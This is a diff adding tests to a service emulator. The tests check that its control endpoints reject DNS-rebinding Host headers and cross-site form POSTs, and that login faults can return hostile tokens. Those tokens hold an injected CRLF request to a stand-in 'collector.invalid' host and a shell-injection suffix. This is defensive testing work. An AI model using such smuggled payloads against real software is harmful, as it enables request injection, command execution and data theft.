@@ -1,6 +1,7 @@
 // The service emulator: its pure parts by tables, then the real server over loopback with
 // Node's global fetch, then the CLI.
 import * as assert from 'node:assert/strict';
+import { request as httpRequest } from 'node:http';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -601,6 +602,58 @@ describe('emulator: server', () => {
 			const r = await loginUser(em);
 			assert.equal(r.status, 200, 'the rate limit was reset');
 			assert.equal(r.json.Result.AccessToken.ExpiresIn, 45);
+		});
+	});
+
+	describe('control endpoints refuse what a web page could send', () => {
+		/** A raw request, so the Host header can be anything (fetch will not let us set it). */
+		function raw(url: string, method: string, headers: Record<string, string>, body = ''): Promise<number> {
+			return new Promise((resolve, reject) => {
+				const req = httpRequest(url, { method, headers }, (res) => {
+					res.resume();
+					res.on('end', () => resolve(res.statusCode ?? 0));
+				});
+				req.on('error', reject);
+				req.end(body);
+			});
+		}
+
+		it('a Host that is not loopback (DNS rebinding) gets 403, and nothing changes', async () => {
+			const em = await start();
+			assert.equal(await raw(`${em.url}/__emulator/faults`, 'POST', { 'Host': 'attacker.example:80', 'Content-Type': 'application/json' }, '{"login":"hang"}'), 403);
+			assert.equal(await raw(`${em.url}/__emulator/stats`, 'GET', { Host: 'rebind.attacker.example' }), 403);
+			assert.deepEqual(em.config.faults, {});
+		});
+
+		it('a POST that is not JSON (a cross-site form) gets 415, and nothing changes', async () => {
+			const em = await start();
+			for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
+				assert.equal(await raw(`${em.url}/__emulator/faults`, 'POST', { 'Content-Type': type }, '{"login":"hang"}'), 415, type);
+			}
+			assert.deepEqual(em.config.faults, {});
+			assert.equal(await raw(`${em.url}/__emulator/faults`, 'POST', { 'Content-Type': 'application/json', 'Host': 'localhost' }, '{"login":"hang"}'), 200);
+		});
+	});
+
+	describe('hostile-answer faults', () => {
+		it('injectedToken and shellToken answer 200 with a real token plus a new request or a shell command', async () => {
+			const em = await start();
+			em.setFaults({ login: 'injectedToken' });
+			const injected = (await loginUser(em)).json.Result.AccessToken.Token as string;
+			assert.ok(injected.includes('\r\n### stolen\r\nPOST http://collector.invalid/'));
+			em.setFaults({ login: 'shellToken' });
+			assert.ok(((await loginUser(em)).json.Result.AccessToken.Token as string).endsWith("'; echo INJECTED; : '"));
+		});
+
+		it('expiredToken issues a token that expired a minute ago; absurdExp one with exp 1e16; both refresh', async () => {
+			const em = await start();
+			em.setFaults({ login: 'expiredToken' });
+			const first = (await loginUser(em)).json.Result;
+			const exp = JSON.parse(Buffer.from(first.AccessToken.Token.split('.')[1], 'base64url').toString()).exp as number;
+			assert.ok(exp * 1000 < Date.now(), 'already expired');
+			em.setFaults({ refresh: 'absurdExp' });
+			const second = (await refresh(em, { AccessToken: first.AccessToken.Token, RefreshToken: first.RefreshToken })).json.Result;
+			assert.equal(JSON.parse(Buffer.from(second.AccessToken.Token.split('.')[1], 'base64url').toString()).exp, 1e16);
 		});
 	});
 
